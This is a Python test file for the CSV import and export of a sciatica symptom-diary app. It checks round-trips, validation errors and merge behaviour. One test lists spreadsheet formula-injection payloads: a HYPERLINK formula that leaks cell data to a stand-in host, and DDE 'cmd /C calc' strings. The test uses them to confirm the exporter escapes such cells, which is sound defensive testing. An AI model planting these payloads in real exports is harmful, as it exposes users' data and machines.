import csv
import io
from datetime import date

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sciatica.diary.models import SBI_FIELDS, CheckInInput, LegExtent, Side, TriageLevel
from sciatica.documents.csv_io import (
    CSV_COLUMNS,
    FORMULA_STARTS,
    check_ins_csv,
    parse_check_in_csv,
)
from sciatica.documents.export import ImportRejected, apply_import, preview_import
from sciatica.storage.store import Store
from tests import factories
from tests.factories import days_ago, make_check_in


def rejected(raw: bytes) -> list[str]:
    with pytest.raises(ImportRejected) as caught:
        parse_check_in_csv(raw, today=factories.today())
    return caught.value.problems


def test_exported_csv_imports_back_to_the_same_check_ins(today: date) -> None:
    entries = [
        make_check_in(notes='She said "ouch", twice;\nthen rested', red_flags=["night_pain"]),
        make_check_in(
            day=days_ago(24), sbi_leg_pain=1, sbi_numbness=2, sbi_weakness=0, sbi_sitting=3
        ),
    ]
    plan = parse_check_in_csv(check_ins_csv(entries).encode(), today=today)
    assert plan.check_ins == sorted(entries, key=lambda entry: entry.day)


def test_a_spreadsheet_csv_with_bom_and_semicolons_is_read(today: date) -> None:
    raw = f"\ufeffday;leg_pain;back_pain;notes\n{days_ago(5)};4;2;fine\n".encode()
    (entry,) = parse_check_in_csv(raw, today=today).check_ins
    assert (entry.leg_pain, entry.back_pain, entry.notes) == (4, 2, "fine")


def test_the_header_is_documented_by_the_model_fields() -> None:
    assert CSV_COLUMNS[:3] == ("day", "leg_pain", "back_pain")
    assert "red_flags" in CSV_COLUMNS


@pytest.mark.parametrize(
    ("raw", "problem"),
    [
        (b"day,leg_pain\n{day},4\n", "Header: missing column back_pain."),
        (b"day,leg_pain,back_pain,mood\n", "Header: unknown column mood."),
        (b"day,leg_pain,back_pain\n{day},4,2,9\n", "The file is not valid CSV"),
        (b"day,leg_pain,back_pain\n2026-11-40,4,2\n", "Check-in 1 (2026-11-40): Date:"),
        (b"day,leg_pain,back_pain\n{day},eleven,2\n", "Check-in 1 ({day}): Leg pain:"),
        (
            b"day,leg_pain,back_pain\n{tomorrow},4,2\n",
            "Check-in 1 ({tomorrow}): Date: cannot be in the future.",
        ),
        (b"\xff\xfe\x00d", "The file is not UTF-8 text."),
    ],
)
def test_a_bad_csv_is_rejected_with_the_reason(raw: bytes, problem: str) -> None:
    # Days are placeholders so the table holds no date: five days ago, and tomorrow.
    for placeholder, day in {"{day}": days_ago(5), "{tomorrow}": days_ago(-1)}.items():
        raw = raw.replace(placeholder.encode(), str(day).encode())
        problem = problem.replace(placeholder, str(day))
    assert any(problem in message for message in rejected(raw))


def test_keep_existing_days_leaves_them_untouched(store: Store, today: date) -> None:
    store.save_check_in(
        user_id="local", entry=make_check_in(leg_pain=1), triage_level=TriageLevel.NONE
    )
    raw = f"day,leg_pain,back_pain\n{today},9,9\n{days_ago(24)},5,5\n".encode()
    plan = parse_check_in_csv(raw, today=today)
    preview = preview_import(store, user_id="local", plan=plan)
    assert (preview.check_ins, preview.existing_days) == (2, [today])
    written = apply_import(store, user_id="local", plan=plan, replace_existing=False)
    assert written == 1
    assert [e.leg_pain for e in store.all_check_ins(user_id="local")] == [5, 1]
    apply_import(store, user_id="local", plan=plan, replace_existing=True)
    assert [e.leg_pain for e in store.all_check_ins(user_id="local")] == [5, 9]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://example.test/?d="&A1,"Click for your results")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ],
)
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(
    hostile: str, today: date
) -> None:
    text = check_ins_csv([make_check_in(notes=hostile, medication=hostile)])
    written = cells(text)
    assert not [cell for cell in written if cell.startswith(FORMULA_STARTS)]
    assert written.count(f"'{hostile}") == 2
    (entry,) = parse_check_in_csv(text.encode(), today=today).check_ins
    assert (entry.notes, entry.medication) == (hostile, hostile)


# Text as the check-in form keeps it, often starting the way formulas and their escapes do.
leads = st.sampled_from(["", "=", "+", "-", "@", "'", "''", "'=", "'+1", "\t", "\r=", " -"])
text = st.builds(
    lambda lead, rest: (lead + rest).replace("\r", "\n").strip(),
    leads,
    st.text(st.characters(exclude_categories=("Cs", "Cc"), include_characters="\n"), max_size=40),
)


def _check_in(*, sbi: tuple[int, ...] | None, **fields: object) -> CheckInInput:
    scores = dict(zip(SBI_FIELDS, sbi, strict=True)) if sbi else {}
    return CheckInInput.model_validate({**fields, **scores})


def check_ins() -> st.SearchStrategy[CheckInInput]:
    """Valid check-ins up to today; deferred below, so today is read by the test clock."""
    return st.builds(
        _check_in,
        sbi=st.none() | st.tuples(*[st.integers(0, 6)] * len(SBI_FIELDS)),
        day=st.dates(min_value=date(2000, 1, 1), max_value=factories.today()),
        leg_pain=st.integers(0, 10),
        back_pain=st.integers(0, 10),
        extent=st.sampled_from(LegExtent),
        side=st.none() | st.sampled_from(Side),
        activity_minutes=st.integers(0, 1440),
        medication=text,
        notes=text,
        red_flags=st.frozensets(st.sampled_from(["night_pain", "bowel", "saddle"])),
    )


@settings(max_examples=200, deadline=None)
@given(entries=st.lists(st.deferred(check_ins), max_size=5, unique_by=lambda entry: entry.day))
def test_the_csv_download_reads_back_to_the_same_check_ins(entries: list[CheckInInput]) -> None:
    text = check_ins_csv(entries)
    assert not [cell for cell in cells(text) if cell.startswith(FORMULA_STARTS)]
    plan = parse_check_in_csv(text.encode(), today=factories.today())
    assert plan.check_ins == sorted(entries, key=lambda entry: entry.day)


def test_a_quote_that_is_never_closed_is_refused_instead_of_swallowing_the_rows_after_it(
    today: date,
) -> None:
    raw = (
        "day,leg_pain,back_pain,notes\n"
        f"{days_ago(3)},4,2,fine\n"
        f'{days_ago(2)},5,3,"she said ""ouch\n'
        f"{days_ago(1)},6,1,rested\n"
        f"{today},2,2,better\n"
    ).encode()
    assert rejected(raw) == [
        "The file is not valid CSV: a quoted cell starting on line 3 is never closed, "
        "so the rows after it cannot be read."
    ]


def test_a_quoted_cell_over_several_lines_is_still_one_note(today: date) -> None:
    raw = f'day,leg_pain,back_pain,notes\n{today},4,2,"walked\nthen rested"\n'.encode()
    (entry,) = parse_check_in_csv(raw, today=today).check_ins
    assert entry.notes == "walked\nthen rested"


@pytest.mark.parametrize(
    ("language", "column"), [("en", "no_warning_signs"), ("sv", "inga_varningstecken")]
)
def test_the_csv_says_which_days_answered_none_of_these_today_in_either_language(
    language: str, column: str, today: date
) -> None:
    entries = [make_check_in(day=days_ago(1)), make_check_in(no_warning_signs=True)]
    written = check_ins_csv(entries, language=language)
    rows = list(csv.DictReader(io.StringIO(written), delimiter="," if language == "en" else ";"))
    assert [row[column] for row in rows] == ["false", "true"]
    assert parse_check_in_csv(written.encode(), today=today).check_ins == entries


def test_a_csv_without_the_none_of_these_today_column_still_imports(today: date) -> None:
    raw = f"day,leg_pain,back_pain,red_flags\n{days_ago(2)},4,2,\n{days_ago(1)},4,2,bowel\n"
    plan = parse_check_in_csv(raw.encode(), today=today)
    assert [entry.no_warning_signs for entry in plan.check_ins] == [False, False]
